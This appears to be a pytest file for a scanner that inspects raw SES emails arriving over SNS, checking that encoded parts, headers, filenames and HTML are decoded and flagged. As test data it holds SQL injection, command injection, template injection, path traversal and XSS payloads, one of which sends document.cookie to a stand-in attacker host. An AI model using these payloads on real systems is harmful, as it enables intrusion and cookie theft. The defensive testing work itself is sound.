"""Raw emails (SES content over SNS): headers, encoded words, transfer-encoded parts and HTML
parts are inspected as the mail client will show them; the email's own syntax is not a finding."""

from __future__ import annotations

import base64
import copy
import json
import quopri
from pathlib import Path
from typing import Any

import pytest

from eventguard.runtime import inspect
from eventguard.runtime.decoders import mime, sniff
from eventguard.runtime.errors import DecodeError, LimitExceeded
from eventguard.runtime.limits import MAX_MULTIPART_PARTS

SAMPLE = Path(__file__).parents[2] / "events" / "sns" / "own--ses-received-content.json"
CONTENT = "Records[0].Sns.Message<json>.content"


def _event_with(mail: str) -> dict[str, Any]:
    event = json.loads(SAMPLE.read_text())
    message = json.loads(event["Records"][0]["Sns"]["Message"])
    message["content"] = mail
    event["Records"][0]["Sns"]["Message"] = json.dumps(message)
    return event


def _mail(*parts: tuple[str, str], headers: str = "") -> str:
    lines = [
        "Return-Path: <eve@example.net>",
        "From: Eve <eve@example.net>",
        "To: orders@shop.example.com",
        "Subject: order",
        "MIME-Version: 1.0",
        *([headers] if headers else []),
        'Content-Type: multipart/mixed; boundary="B0"',
        "",
    ]
    for head, body in parts:
        lines += ["--B0", head, "", body]
    return "\r\n".join([*lines, "--B0--", ""])


def _found(event: dict[str, Any]) -> set[tuple[str, str]]:
    return {(f.path, f.rule) for f in inspect(event).findings}


def test_a_benign_html_email_with_encoded_parts_is_clean() -> None:
    assert inspect(json.loads(SAMPLE.read_text())).findings == []


def test_a_base64_part_is_decoded() -> None:
    body = base64.encodebytes(b"Hi,\n1' OR '1'='1' -- \n").decode()
    event = _event_with(_mail(("Content-Transfer-Encoding: base64", body)))
    assert (f"{CONTENT}<mime>.parts[0].text", "sqli") in _found(event)


def test_a_quoted_printable_part_is_decoded() -> None:
    body = quopri.encodestring(b"see ; cat /etc/passwd\n").decode()
    event = _event_with(_mail(("Content-Transfer-Encoding: quoted-printable", body)))
    assert any(path == f"{CONTENT}<mime>.parts[0].text" for path, _ in _found(event))


def test_an_encoded_word_header_is_decoded() -> None:
    word = base64.b64encode(b"{{7*7}}{{config.items()}}").decode()
    event = _event_with(_mail(("", "hi"), headers=f"X-Ref: =?utf-8?b?{word}?="))
    assert (f"{CONTENT}<mime>.headers.X-Ref", "ssti") in _found(event)


def test_an_attachment_file_name_is_inspected() -> None:
    head = 'Content-Disposition: attachment; filename="../../../../etc/passwd"'
    event = _event_with(_mail((head, "x")))
    assert (f"{CONTENT}<mime>.parts[0].filename", "path_traversal") in _found(event)


@pytest.mark.parametrize(
    "markup",
    [
        "<p>hi</p><img src=x onerror=alert(document.cookie)>",
        '<a href="jav&#x09;ascript:alert(1)">win</a>',
        "<p>x</p><script>fetch('//evil.example/'+document.cookie)</script>",
        '<p title="a>b" onclick="alert(1)">t</p>',
    ],
)
def test_script_in_an_html_part_is_found(markup: str) -> None:
    body = base64.encodebytes(markup.encode()).decode()
    head = "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64"
    found = _found(_event_with(_mail((head, body))))
    assert any(p.startswith(f"{CONTENT}<mime>.parts[0]") and r == "xss" for p, r in found)


def test_base64_content_of_an_sns_action_is_decoded_then_parsed() -> None:
    body = base64.encodebytes(b"1' UNION SELECT password FROM users -- ").decode()
    mail = _mail(("Content-Transfer-Encoding: base64", body))
    event = _event_with(base64.b64encode(mail.encode()).decode())
    assert (f"{CONTENT}<base64><mime>.parts[0].text", "sqli") in _found(event)


def test_sniffing_wants_a_mail_header_block() -> None:
    assert sniff(_mail(("", "hi"))) == ("mime",)
    assert sniff("Subject: hello\n\nthanks") == ()
    assert sniff("Note: call me\nDate: tomorrow at noon") == ()
    assert sniff("Dear team: the date: 12 May\n\nthanks") == ()


def test_too_many_parts_is_a_limit() -> None:
    part = "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\nx\r\n"
    mail = "From: a@b.c\r\nTo: d@e.f\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    with pytest.raises(LimitExceeded):
        mime.decode(mail + part * MAX_MULTIPART_PARTS)


def test_deep_nesting_never_crashes() -> None:
    mail = "From: a@b.c\r\nTo: d@e.f\r\n"
    for depth in range(200):
        mail += f'Content-Type: multipart/mixed; boundary="b{depth}"\r\n\r\n--b{depth}\r\n'
    with pytest.raises((LimitExceeded, DecodeError)):
        mime.decode(mail + "\r\nend")


def test_a_mangled_email_is_still_inspected_as_text() -> None:
    mail = "From: a@b.c\r\nTo: d@e.f\r\nContent-Type: multipart/mixed; boundary=\r\n\r\n<script>x</script>"
    event = _event_with(copy.deepcopy(mail))
    assert any(rule == "xss" for _, rule in _found(event))
